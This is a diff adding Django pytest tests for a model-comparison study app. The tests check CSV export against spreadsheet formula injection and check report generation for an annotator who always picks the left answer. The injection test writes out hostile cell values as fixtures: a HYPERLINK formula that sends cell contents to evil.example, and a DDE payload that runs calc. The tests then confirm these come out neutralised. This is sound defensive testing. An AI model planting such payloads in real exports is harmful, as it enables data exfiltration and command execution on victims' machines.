@@ -13,14 +13,17 @@ from collections import Counter
 
 import pandas as pd
 import pytest
+from django.contrib.auth import get_user_model
 from django.core.management import call_command
 from django.urls import reverse
 
-from sbs.analysis import services
+from sbs.analysis import exports, services
 from sbs.analysis.models import ReportCache
 from sbs.analysis.report import SECTIONS
 from sbs.analysis.tasks import compute_report
-from sbs.studies.models import Answer
+from sbs.studies.models import Answer, Assignment, ModelEntry, Question
+from sbs.voting.models import Vote
+from sbs.voting.services import vote_record
 from tests.analysis.test_report_fixtures import fast_users, make_voted_study  # noqa: F401
 from tests.htmlcheck import script_problems
 
@@ -206,3 +209,79 @@ def test_export_command_writes_each_format(tmp_path, computed):
     assert data["manifest"]["format"] == "json" and set(SECTIONS) <= set(data["report"])
     html = (tmp_path / "report.html").read_text(encoding="utf-8")
     assert html.count("data:image/svg+xml;base64,") == 4 and "https://" not in html
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_cells_from_people_cannot_run_as_spreadsheet_formulas(owner_client, voted):
+    """Hostile comments, categories, names, question ids and model names come out inert."""
+    hostile = {
+        "category": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+        "question": "@SUM(1+1)",
+        "annotator": "-2+3",
+        "model": "+cmd|' /C calc'!A0",
+        "comment_tab": "\t=1+1",
+        "comment_cr": "\r=2+2",
+        "comment_at": "@attacker",
+    }
+    study = voted.study
+    first_question = study.question_set.questions.order_by("pk").first()
+    Question.objects.filter(pk=first_question.pk).update(
+        category=hostile["category"], external_id=hostile["question"]
+    )
+    get_user_model().objects.filter(pk=voted.annotators[1].pk).update(username=hostile["annotator"])
+    ModelEntry.objects.filter(pk=study.model_a.pk).update(name=hostile["model"])
+    votes = list(Vote.objects.filter(assignment__pair__study=study).order_by("pk"))
+    for vote, key in zip(votes, ("comment_tab", "comment_cr", "comment_at"), strict=False):
+        Vote.objects.filter(pk=vote.pk).update(comment=hostile[key])
+
+    response = owner_client.get(reverse("studies:export", args=[study.pk, "csv"]))
+    raw = _zip(response).read(f"study-{study.pk}-votes.csv")
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    header, body = rows[0], rows[1:]
+    assert len(body) == len(voted.planned)
+    cells = [cell for row in body for cell in row]
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
+    for value in hostile.values():  # each one is there, neutralised by a leading quote
+        assert "'" + value in cells, value
+    by_column = {name: [row[k] for row in body] for k, name in enumerate(header)}
+    assert all(float(s) > 0 for s in by_column["seconds"])  # numbers stay numbers
+    assert "'" + hostile["model"] in by_column["left_model"] + by_column["right_model"]
+    assert any(c.startswith("комментарий") for c in by_column["comment"])  # untouched
+
+
+def test_csv_cell_quotes_only_strings_that_start_a_formula():
+    assert exports.csv_cell(-0.5) == "-0.5" and exports.csv_cell(-3) == "-3"
+    assert exports.csv_cell("-0.5") == "'-0.5"
+    assert exports.csv_cell("a=b") == "a=b" and exports.csv_cell("") == ""
+    assert exports.csv_cell(None) == "" and exports.csv_cell(True) == "1"
+    data = exports.csv_bytes(["x", "y"], [[-0.5, "=1"], [1.25, "ok"]])
+    assert data.decode("utf-8-sig") == "x,y\r\n-0.5,'=1\r\n1.25,ok\r\n"
+
+
+@pytest.fixture
+def lefty():
+    """10 questions, no repeats; the second annotator gives every vote to the left answer."""
+    voted = make_voted_study(n=10, repeat_share=0.0)
+    user = voted.annotators[1]
+    for a in Assignment.objects.filter(pair__study=voted.study, annotator=user):
+        vote_record(annotator=user, assignment_id=a.pk, choice="left", seconds_on_page=4.0)
+    return voted
+
+
+def test_an_annotator_who_always_clicks_left_gets_a_report_and_an_html_export(tmp_path, lefty):
+    # 10 of 10 left: the Wilson upper bound was 0.9999999999999999, below the point 1.0,
+    # and the position-bias plot refused it, in the job and in `export_report --format html`.
+    user = lefty.annotators[1]
+    assert Assignment.objects.filter(pair__study=lefty.study, annotator=user).count() == 10
+    out = tmp_path / "report.html"
+    call_command("export_report", str(lefty.study.pk), "--format", "html", "--out", str(out))
+    html = out.read_text(encoding="utf-8")
+    assert html.count("data:image/svg+xml;base64,") == 4
+    row = services.report_request(study=lefty.study)
+    assert compute_report.apply(args=[row.pk]).get() == "done"
+    row.refresh_from_db()
+    stats = next(a for a in row.report["annotators"] if a["annotator"] == user.username)
+    assert (stats["left_rate"], stats["left_rate_high"]) == (1.0, 1.0)
+    assert set(row.plots["en"]) == {"categories", "ranking", "position_bias", "speed_vs_win_rate"}
